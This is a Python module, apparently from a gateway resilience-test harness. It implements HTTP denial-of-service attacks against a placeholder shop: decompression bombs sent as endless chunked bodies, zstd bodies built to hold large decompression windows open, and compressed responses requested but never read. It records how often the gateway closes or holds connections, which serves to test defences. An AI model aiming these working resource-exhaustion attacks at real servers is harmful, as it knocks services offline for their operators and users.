"""Attacks by bodies: bombs, windows that are held, and packed answers that nobody reads."""

from __future__ import annotations

import select
import socket
import time
from collections.abc import Callable
from typing import TYPE_CHECKING

from support.codings import endless, zstd_filling

if TYPE_CHECKING:
    from attacks.attackers import Attacker

WINDOWS = 100
"""Bodies with a window of 8 MiB that an attacker tries to hold: 800 MiB."""
ANSWERS = 300
"""Answers in zstd that it tries to hold: each takes more than a megabyte."""
WAITS = 0.1


def packed_answers(attacker: Attacker) -> None:
    """Answers that are packed for nobody: each holds what its packer takes."""
    attacker.most, attacker.receive = ANSWERS, 4096
    attacker.drip(b"GET /text HTTP/1.1\r\nHost: shop.example\r\nAccept-Encoding: zstd\r\n\r\n", b"")


def held_windows(attacker: Attacker) -> None:
    """Bodies of 90 KB that fill a window of 8 MiB, and never end."""
    head = b"POST /sink HTTP/1.1\r\nHost: shop.example\r\nContent-Encoding: zstd\r\nContent-Length: 10000000\r\n\r\n"
    begin = head + zstd_filling(23)
    while attacker.goes_on():
        if len(attacker.crowd) < WINDOWS and (sock := attacker.raw()) is not None:
            attacker.crowd.append(sock)
            try:
                sock.sendall(begin)
                attacker.got.sent += len(begin)
            except OSError:
                continue  # It is found out below.
        else:
            time.sleep(WAITS)  # sleep: the attack is to wait
        attacker.crowd = [held for held in attacker.crowd if not _over(attacker, held)]
    attacker.got.held = len(attacker.crowd)


def bombs_of(coding: str) -> Callable[[Attacker], None]:
    """A body without an end, which becomes a thousand times its size and more."""

    def attack(attacker: Attacker) -> None:
        begin, again = endless(coding)
        head = "POST /sink HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\n"
        first = f"{head}Content-Encoding: {coding}\r\n\r\n".encode() + _chunk(begin + again)
        while attacker.goes_on():
            sock = attacker.raw()
            if sock is not None:
                sock.setblocking(False)
                _pour(attacker, sock, first, _chunk(again))
                sock.close()

    attack.__doc__ = f"{bombs_of.__doc__} In {coding}."
    return attack


def _pour(attacker: Attacker, sock: socket.socket, first: bytes, again: bytes) -> None:
    """Sends as fast as it is taken, until the gate has enough."""
    waiting = select.poll()
    waiting.register(sock, select.POLLIN | select.POLLOUT)
    left = first
    while attacker.goes_on():
        for _, what in waiting.poll(WAITS * 1_000):
            if what & ~select.POLLOUT:
                attacker.got.closed += 1
                return
            try:
                sent = sock.send(left)
            except OSError:
                attacker.got.closed += 1
                return
            attacker.got.sent += sent
            left = left[sent:] or again
    attacker.got.held += 1


def _over(attacker: Attacker, sock: socket.socket) -> bool:
    """Whether the gate has refused or closed it."""
    waiting = select.poll()
    waiting.register(sock, select.POLLIN)
    if not waiting.poll(0):
        return False
    attacker.got.closed += 1
    sock.close()
    return True


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (len(data), data)
